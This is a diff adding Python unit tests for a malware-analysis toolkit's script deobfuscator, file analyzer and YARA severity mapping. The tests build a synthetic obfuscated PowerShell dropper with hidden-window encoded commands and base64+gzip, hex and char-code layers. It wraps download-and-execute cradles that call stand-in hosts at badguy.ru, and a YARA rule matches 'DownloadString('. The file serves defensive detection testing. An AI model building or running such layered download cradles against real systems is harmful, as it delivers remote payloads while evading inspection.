@@ -0,0 +1,99 @@
+import os
+import sys
+import gzip
+import base64
+import shutil
+import tempfile
+import unittest
+
+# Ajout du répertoire parent au chemin de recherche
+sys.path.insert(0, os.path.abspath(os.path.join(os.path.dirname(__file__), '../src')))
+
+from utils.script_deobfuscator import ScriptDeobfuscator, describe_layer
+from utils.file_analyzer import FileAnalyzer
+from utils.yara_scanner import YaraScanner, rule_severity
+
+PAYLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://stage2.badguy.ru/a.ps1')"
+HEX_PAYLOAD = "(New-Object Net.WebClient).DownloadString('http://backup.badguy.ru/b.ps1')|iex"
+
+
+def make_dropper() -> str:
+    blob = base64.b64encode(gzip.compress(PAYLOAD.encode())).decode()
+    stage = ("$d=New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String("
+             f"'{blob}'),[IO.Compression.CompressionMode]::Decompress)")
+    command = base64.b64encode(stage.encode("utf-16-le")).decode()
+    return (
+        f"powershell.exe -nop -w hidden -enc {command}\n"
+        "$c = [char]73+[char]69+[char]88; $m = 'Down'+'load'+\"File\"\n"
+        f"$h = '{HEX_PAYLOAD.encode().hex()}'\n"
+    )
+
+
+class TestScriptDeobfuscator(unittest.TestCase):
+    """Tests unitaires pour le décodage récursif des scripts"""
+
+    def setUp(self):
+        """Initialisation avant chaque test"""
+        self.test_dir = tempfile.mkdtemp()
+
+    def tearDown(self):
+        """Nettoyage après chaque test"""
+        shutil.rmtree(self.test_dir)
+
+    def test_unpack(self):
+        """Test du décodage des couches imbriquées et du cache par empreinte"""
+        deobfuscator = ScriptDeobfuscator()
+        layers = deobfuscator.unpack(make_dropper())
+        by_label = {describe_layer(layer): layer for layer in layers}
+
+        self.assertIn("FromBase64String", by_label["encoded_command"].text)
+        self.assertEqual(by_label["encoded_command > base64+gzip"].text, PAYLOAD)
+        self.assertEqual(by_label["encoded_command > base64+gzip"].depth, 2)
+        self.assertEqual(by_label["hex"].text, HEX_PAYLOAD)
+        rewritten = by_label["char_codes+concatenation"].text
+        self.assertIn("$c = 'IEX'", rewritten)
+        self.assertIn("$m = 'DownloadFile'", rewritten)
+
+        # Un contenu déjà décodé n'est pas décodé à nouveau
+        hits = deobfuscator.cache_hits
+        self.assertEqual(deobfuscator.unpack(make_dropper()), layers)
+        self.assertGreater(deobfuscator.cache_hits, hits)
+
+        # Profondeur limitée
+        shallow = ScriptDeobfuscator(max_depth=1).unpack(make_dropper())
+        self.assertEqual({layer.depth for layer in shallow}, {1})
+
+    def test_file_analyzer(self):
+        """Test de la réanalyse des couches décodées (indicateurs et YARA)"""
+        rules_dir = os.path.join(self.test_dir, "rules")
+        os.makedirs(rules_dir)
+        with open(os.path.join(rules_dir, "test.yar"), "w") as f:
+            f.write('rule trojan_web_cradle { strings: $a = "DownloadString(" condition: $a }')
+
+        path = os.path.join(self.test_dir, "dropper.ps1")
+        with open(path, "w") as f:
+            f.write(make_dropper())
+
+        results = FileAnalyzer(yara_scanner=YaraScanner(rules_dir)).analyze_file(path)
+        self.assertIn("decoded_layers", results)
+        urls = {ioc["value"]: ioc for ioc in results["iocs"] if ioc["type"] == "url"}
+        self.assertEqual(urls["http://stage2.badguy.ru/a.ps1"]["layer"], "encoded_command > base64+gzip")
+        self.assertEqual(urls["http://backup.badguy.ru/b.ps1"]["layer"], "hex")
+
+        yara = [t for t in results["threats"] if t["type"] == "yara_match"]
+        self.assertEqual({t["details"]["layer"] for t in yara}, {"encoded_command > base64+gzip", "hex"})
+        # Sévérité dérivée du nom de la règle, comme pour les fichiers analysés directement
+        self.assertEqual({t["severity"] for t in yara}, {"medium"})
+        decoded = [t for t in results["threats"] if t["type"] == "suspicious_script_content" and "details" in t]
+        self.assertIn("IEX", [t["name"].split(": ")[1] for t in decoded])
+
+    def test_rule_severity(self):
+        """Test de la sévérité partagée des règles YARA"""
+        self.assertEqual(rule_severity("LockBit_Note"), "critical")
+        self.assertEqual(rule_severity("rootkit_hook"), "high")
+        self.assertEqual(rule_severity("Trojan_Downloader"), "medium")
+        self.assertEqual(rule_severity("web_cradle"), "low")
+
+
+if __name__ == '__main__':
+    unittest.main()